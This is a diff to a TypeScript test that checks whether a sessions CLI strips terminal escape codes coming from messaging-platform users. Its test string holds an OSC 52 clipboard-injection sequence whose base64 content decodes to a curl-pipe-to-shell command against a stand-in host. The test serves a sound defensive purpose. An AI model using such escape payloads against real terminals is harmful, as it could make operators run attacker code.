@@ -10,8 +10,35 @@ const HOSTILE = "hello\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x1b\\\x
 const DRIVES_TERMINAL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
 
 const ID = "s_hostile1";
-const session = { id: ID, title: HOSTILE, source: "telegram", running: false, handoff: null, model: "fake", session_key: "telegram:dm:111", started_at: 0, last_active_at: 0, message_count: 2, ended_at: null, end_reason: null };
-const message = (role: string, content: string) => ({ id: 1, role, content, tool_calls: null, tool_call_id: null, tool_name: null, finish_reason: null, created_at: 0, token_count: null, input_tokens: null, output_tokens: null, model: null, attachments: [] });
+const session = {
+  id: ID,
+  title: HOSTILE,
+  source: "telegram",
+  running: false,
+  handoff: null,
+  model: "fake",
+  session_key: "telegram:dm:111",
+  started_at: 0,
+  last_active_at: 0,
+  message_count: 2,
+  ended_at: null,
+  end_reason: null,
+};
+const message = (role: string, content: string) => ({
+  id: 1,
+  role,
+  content,
+  tool_calls: null,
+  tool_call_id: null,
+  tool_name: null,
+  finish_reason: null,
+  created_at: 0,
+  token_count: null,
+  input_tokens: null,
+  output_tokens: null,
+  model: null,
+  attachments: [],
+});
 
 let worker: LoopbackServer;
 beforeAll(async () => {
@@ -21,7 +48,9 @@ beforeAll(async () => {
     if (pathname === `/v1/sessions/${ID}`) return Response.json({ session });
     if (pathname === `/v1/sessions/${ID}/messages`) return Response.json({ messages: [message("user", HOSTILE), message("assistant", `echo: ${HOSTILE}`)] });
     if (pathname === `/v1/sessions/${ID}/export`) {
-      return searchParams.get("format") === "md" ? new Response(`# ${HOSTILE}\n\n${HOSTILE}\n`) : new Response(`${JSON.stringify({ session })}\n`.replace("\\u001b]0", "\x9d0"));
+      return searchParams.get("format") === "md"
+        ? new Response(`# ${HOSTILE}\n\n${HOSTILE}\n`)
+        : new Response(`${JSON.stringify({ session })}\n`.replace("\\u001b]0", "\x9d0"));
     }
     if (pathname === "/v1/usage") return Response.json({ usage: [{ key: HOSTILE, turns: 1, input_tokens: 1, output_tokens: 1 }] });
     return Response.json({ error: { code: "not_found", message: `no such thing ${HOSTILE}` } }, { status: 404 });
@@ -38,7 +67,16 @@ async function run(argv: string[], tty: boolean) {
 describe("escape codes from platform users never reach the operator's terminal", () => {
   it("a DM with OSC 52, a title change and clear screen is printed clean by sessions list, show and messages, on a terminal and in a pipe", async () => {
     for (const tty of [true, false]) {
-      for (const argv of [["sessions", "list"], ["sessions", "show", ID], ["sessions", "messages", ID], ["sessions", "list", "--json"], ["sessions", "show", ID, "--json"], ["usage"], ["sessions", "export", ID, "--format", "md"], ["sessions", "show", "nope"]]) {
+      for (const argv of [
+        ["sessions", "list"],
+        ["sessions", "show", ID],
+        ["sessions", "messages", ID],
+        ["sessions", "list", "--json"],
+        ["sessions", "show", ID, "--json"],
+        ["usage"],
+        ["sessions", "export", ID, "--format", "md"],
+        ["sessions", "show", "nope"],
+      ]) {
         const r = await run(argv, tty);
         const printed = (r.out + r.err).replace(/\x1b\[[0-9;]*m/g, ""); // our own colours on a terminal
         expect(printed, `${argv.join(" ")} (tty: ${tty})`).not.toMatch(DRIVES_TERMINAL);
